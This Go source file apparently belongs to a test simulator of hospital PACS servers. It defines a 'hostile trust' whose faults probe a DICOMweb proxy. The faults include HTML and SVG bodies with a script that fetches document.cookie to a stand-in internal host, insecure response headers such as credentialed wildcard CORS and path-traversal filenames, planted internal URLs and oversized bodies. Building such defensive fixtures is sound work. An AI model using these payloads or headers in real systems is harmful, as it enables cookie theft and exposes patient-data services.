package pacssim

import (
	"bytes"
	"context"
	"encoding/json"
	"fmt"
	"mime/multipart"
	"net/http"
	"net/textproto"
	"strings"
)

// A hostile trust: one whose PACS, or something in front of it, sends what a browser must
// never get from the proxy's origin. Its faults are deterministic (the same request gets the
// same bytes) and combine with Only, as every fault does.

// The hostile trust pair of HostileTrusts, and the internal addresses a hostile trust plants.
const (
	HostileTrustID     = "XH6"
	HostileTrustName   = "Hostile Demo Hospitals NHS Trust"
	HonestTrustID      = "XI7"
	HonestTrustName    = "Honest Demo Hospitals NHS Trust"
	HostileStudyUID    = DemoUIDRoot + ".6.1"
	HostileSeriesUID   = HostileStudyUID + ".1"
	HostileInstanceUID = HostileSeriesUID + ".1"
	// HostilePatientNHSNumber is the patient whose study both trusts hold.
	HostilePatientNHSNumber = "9990011311"

	// InternalHost is the trust-internal PACS host that InternalURLs plants in DICOM JSON,
	// HostileHeaders in response and part headers.
	InternalHost = "pacs.internal.trust.nhs.uk"
	// InternalMetadataHost is a second internal host: a metadata service whose BulkDataURIs
	// InternalURLs plants next to the PACS's own.
	InternalMetadataHost = "metadata.internal.trust.nhs.uk"
	// ActiveMarker is in every body ActiveContent and ActiveParts send, inside a <script>.
	ActiveMarker = "pacssim-hostile-script"
)

// HostileTrusts returns two trusts holding byte-identical copies of HostileStudyUID (one
// series of two 64-by-64 instances), both making thumbnails: hostile (XH6), to be given
// hostile faults, and honest (XI7). Neither holds anything else.
func HostileTrusts() (hostile, honest *Trust, err error) {
	dave := Patient{NHSNumber: HostilePatientNHSNumber, LocalID: "MRN13579", Name: "DEMO^DAVE", BirthDate: "19750101", Sex: "M"}
	spec := StudySpec{
		UID: HostileStudyUID, Patient: dave, Date: "20250505", Time: "090000", AccessionNumber: "XH6-0001",
		StudyID: "6001", Description: "CT SINUS", ReferringPhysician: "GREEN^HANNAH", Institution: HostileTrustName,
		Series: []SeriesSpec{{Number: 1, Modality: "CT", Description: "Axial", BodyPart: "HEAD", Instances: 2, Rows: 64, Columns: 64}},
	}
	opts := Options{Seed: DemoSeed, Thumbnails: true}
	if hostile, err = NewTrust(HostileTrustID, HostileTrustName, opts, spec); err != nil {
		return nil, nil, err
	}
	if honest, err = NewTrust(HonestTrustID, HonestTrustName, opts, spec); err != nil {
		return nil, nil, err
	}
	return hostile, honest, nil
}

// ActiveContent answers 200 with a body that runs script in a browser, labelled contentType:
// an SVG with a <script> when contentType names SVG, else an HTML page with one. Made for
// text/html and image/svg+xml, it also serves as a wrong content type of any kind (image/png
// to a request for image/jpeg, application/dicom to one for multipart/related).
func ActiveContent(contentType string) Fault {
	return Fault{Mode: FaultActiveContent, ContentType: contentType}
}

// Relabel sends the real answer with its Content-Type replaced by contentType: DICOM JSON
// labelled text/html, which a proxy that parsed before checking would take.
func Relabel(contentType string) Fault { return Fault{Mode: FaultRelabel, ContentType: contentType} }

// ActiveParts answers 200 with a well-formed multipart/related body whose outer type is the
// part type asked for, and whose parts are HTML pages with a <script>.
func ActiveParts() Fault { return Fault{Mode: FaultActiveParts} }

// HostileHeaders sends the real answer with response headers no browser should get from the
// proxy (HostileResponseHeaders), and in multipart answers part headers naming InternalHost.
func HostileHeaders() Fault { return Fault{Mode: FaultHostileHeaders} }

// InternalURLs plants InternalHost URLs in every DICOM JSON answer (searches and metadata):
// RetrieveURL, RetrieveURI (0040,E010) and PixelDataProviderURL (UR) at the top level, the
// same nested in ReferencedSeriesSequence and, two levels down, ReferencedSOPSequence, with a
// BulkDataURI at InternalHost in the nested item and one at InternalMetadataHost at the top
// level (ICC Profile).
func InternalURLs() Fault { return Fault{Mode: FaultInternalURLs} }

// Oversized answers searches and metadata with a DICOM JSON array of one dataset holding a
// text value of size bytes, streamed; other answers are sent as they are.
func Oversized(size int64) Fault { return Fault{Mode: FaultOversized, Size: size} }

// HostileResponseHeaders are the headers HostileHeaders adds to a trust's answer.
var HostileResponseHeaders = map[string]string{
	"Set-Cookie":                       "PACSSESSION=hostile; Path=/; Domain=" + InternalHost,
	"Www-Authenticate":                 `Basic realm="http://` + InternalHost + `/login"`,
	"Access-Control-Allow-Origin":      "*",
	"Access-Control-Allow-Credentials": "true",
	"Location":                         "http://" + InternalHost + "/login",
	"Content-Location":                 "http://" + InternalHost + "/dicom-web/studies",
	"Link":                             "<http://" + InternalHost + "/dicom-web/next>; rel=next",
	"Refresh":                          "0; url=http://" + InternalHost + "/login",
	"Content-Disposition":              `attachment; filename="../../` + InternalHost + `.html"`,
	"Server":                           "PACS/1.0 (" + InternalHost + ")",
	"X-Powered-By":                     "PACS " + InternalHost,
	"Content-Security-Policy":          "default-src *",
	"Strict-Transport-Security":        "max-age=0",
}

// HostileMode is a named hostile behaviour for tests and the demo to choose from.
type HostileMode struct {
	Name   string
	Faults []Fault
}

// HostileModes lists the hostile trust's behaviours, each on the kinds of request it
// concerns. OversizedBytes is above the proxy's bound on a search answer (64 MiB) and on one
// metadata dataset (16 MiB).
func HostileModes() []HostileMode {
	const oversizedBytes = 65 << 20
	images := []RequestKind{KindRendered, KindThumbnail}
	data := []RequestKind{KindRetrieve, KindMetadata, KindFrames, KindBulk}
	return []HostileMode{
		{"html images", []Fault{ActiveContent("text/html; charset=utf-8").Only(images...)}},
		{"svg images", []Fault{ActiveContent("image/svg+xml").Only(images...)}},
		{"xhtml images", []Fault{ActiveContent("application/xhtml+xml").Only(images...)}},
		{"png for jpeg", []Fault{ActiveContent("image/png").Only(images...)}},
		{"html data", []Fault{ActiveContent("text/html").Only(data...)}},
		{"svg data", []Fault{ActiveContent("image/svg+xml").Only(data...)}},
		{"single part for multipart", []Fault{ActiveContent("application/dicom").Only(KindRetrieve, KindFrames, KindBulk)}},
		{"json as octets", []Fault{ActiveContent("application/octet-stream").Only(KindMetadata)}},
		{"dicom json as html", []Fault{Relabel("text/html").Only(KindMetadata)}},
		{"html parts", []Fault{ActiveParts().Only(KindRetrieve, KindFrames, KindBulk)}},
		{"headers", []Fault{HostileHeaders()}},
		{"internal urls", []Fault{InternalURLs()}},
		{"oversized metadata", []Fault{Oversized(oversizedBytes).Only(KindMetadata)}},
		{"oversized search", []Fault{Oversized(oversizedBytes).Only(KindSearch)}},
	}
}

// answerHostile sends the answer of a hostile fault (see answer).
func (t *Trust) answerHostile(w http.ResponseWriter, r *http.Request, f *activeFault, next http.Handler) {
	switch f.Mode {
	case FaultActiveContent:
		writeBody(w, f.ContentType, activeBody(f.ContentType))
	case FaultActiveParts:
		writeActiveParts(w, r)
	case FaultRelabel:
		next.ServeHTTP(&relabelled{ResponseWriter: w, contentType: f.ContentType}, r)
	case FaultHostileHeaders:
		for k, v := range HostileResponseHeaders {
			w.Header().Set(k, v)
		}
		next.ServeHTTP(w, r.WithContext(context.WithValue(r.Context(), partFaultKey{}, f.Fault)))
	case FaultInternalURLs:
		sendEdited(w, r, next, func(status int, body []byte) []byte {
			if planted, ok := plantInternalURLs(body); ok && status == http.StatusOK {
				return planted
			}
			return body
		})
	case FaultOversized:
		if kind := kindOf(r.URL.Path); kind != KindSearch && kind != KindMetadata {
			next.ServeHTTP(w, r)
			return
		}
		writeOversized(w, f.Size)
	}
}

// activeBody is a body that runs script when a browser renders it as contentType.
func activeBody(contentType string) string {
	if strings.Contains(contentType, "svg") {
		return `<svg xmlns="http://www.w3.org/2000/svg"><script>/*` + ActiveMarker + `*/fetch("http://` + InternalHost + `/"+document.cookie)</script></svg>`
	}
	return "<!DOCTYPE html>\n<html><body><script>/*" + ActiveMarker + "*/fetch(\"http://" + InternalHost + "/\"+document.cookie)</script></body></html>\n"
}

// writeActiveParts answers with two HTML parts in a multipart/related body labelled with
// the part type the request asked for (application/dicom when it named none).
func writeActiveParts(w http.ResponseWriter, r *http.Request) {
	partType := "application/dicom"
	for _, mr := range parseAccept(r) {
		if pt := mr.params["type"]; mr.typ == "multipart/related" && pt != "" {
			partType = pt
			break
		}
	}
	mw := multipart.NewWriter(w)
	w.Header().Set("Content-Type", fmt.Sprintf("multipart/related; type=%q; boundary=%s", partType, mw.Boundary()))
	w.WriteHeader(http.StatusOK)
	for range 2 {
		pw, err := mw.CreatePart(textproto.MIMEHeader{"Content-Type": {"text/html"}})
		if err != nil {
			return
		}
		_, _ = pw.Write([]byte(activeBody("text/html")))
	}
	_ = mw.Close()
}

// hostilePartHeaders are added to each part of a multipart answer under HostileHeaders.
var hostilePartHeaders = textproto.MIMEHeader{
	"Content-Description": {"from http://" + InternalHost + "/store"},
	"Content-Disposition": {`attachment; filename="../../` + InternalHost + `.html"`},
	"Set-Cookie":          {"PARTSESSION=hostile"},
	"X-Internal-Url":      {"http://" + InternalHost + "/dicom-web"},
}

// hostileParts reports whether the request's multipart answer gets hostilePartHeaders.
func hostileParts(ctx context.Context) bool {
	f, ok := ctx.Value(partFaultKey{}).(Fault)
	return ok && f.Mode == FaultHostileHeaders
}

// plantInternalURLs adds InternalURLs' elements to every dataset of a DICOM JSON array.
func plantInternalURLs(body []byte) ([]byte, bool) {
	var list []map[string]any
	if err := json.Unmarshal(body, &list); err != nil {
		return nil, false
	}
	ur := func(path string) map[string]any {
		return map[string]any{"vr": "UR", "Value": []string{"http://" + InternalHost + path}}
	}
	sq := func(items ...map[string]any) map[string]any { return map[string]any{"vr": "SQ", "Value": items} }
	for _, ds := range list {
		study := "/dicom-web/studies/" + HostileStudyUID
		ds["00081190"] = ur(study)
		ds["0040E010"] = ur("/wado?requestType=WADO&studyUID=" + HostileStudyUID)
		ds["00287FE0"] = ur("/pixels/1")
		ds["00282000"] = map[string]any{"vr": "OB", "BulkDataURI": "http://" + InternalMetadataHost + "/bulk/icc/1"}
		ds["00081115"] = sq(map[string]any{
			"00081190": ur(study + "/series/" + HostileSeriesUID),
			"0040E010": ur("/wado?requestType=WADO&seriesUID=" + HostileSeriesUID),
			"00081199": sq(map[string]any{
				"00081190": ur(study + "/series/" + HostileSeriesUID + "/instances/" + HostileInstanceUID),
				"00287FE0": ur("/pixels/2"),
				"00420011": map[string]any{"vr": "OB", "BulkDataURI": "http://" + InternalHost + study + "/bulk/00420011"},
			}),
		})
	}
	out, err := json.Marshal(list)
	return out, err == nil
}

// writeOversized streams a DICOM JSON array of one dataset whose StudyComments (LT) holds
// size bytes, without holding them in memory.
func writeOversized(w http.ResponseWriter, size int64) {
	w.Header().Set("Content-Type", "application/dicom+json")
	w.WriteHeader(http.StatusOK)
	if _, err := fmt.Fprintf(w, `[{"0020000D":{"vr":"UI","Value":[%q]},"00324000":{"vr":"LT","Value":["`, HostileStudyUID); err != nil {
		return
	}
	chunk := bytes.Repeat([]byte("A"), 64<<10)
	for left := size; left > 0; left -= int64(len(chunk)) {
		if _, err := w.Write(chunk[:min(int64(len(chunk)), left)]); err != nil {
			return // the client stopped reading, as it should
		}
	}
	_, _ = w.Write([]byte(`"]}}]`))
}

// relabelled replaces the Content-Type of the answer written through it.
type relabelled struct {
	http.ResponseWriter
	contentType string
	done        bool
}

func (rw *relabelled) WriteHeader(status int) {
	if !rw.done {
		rw.done = true
		rw.Header().Set("Content-Type", rw.contentType)
	}
	rw.ResponseWriter.WriteHeader(status)
}

func (rw *relabelled) Write(p []byte) (int, error) {
	if !rw.done {
		rw.WriteHeader(http.StatusOK)
	}
	return rw.ResponseWriter.Write(p)
}

func (rw *relabelled) Unwrap() http.ResponseWriter { return rw.ResponseWriter }
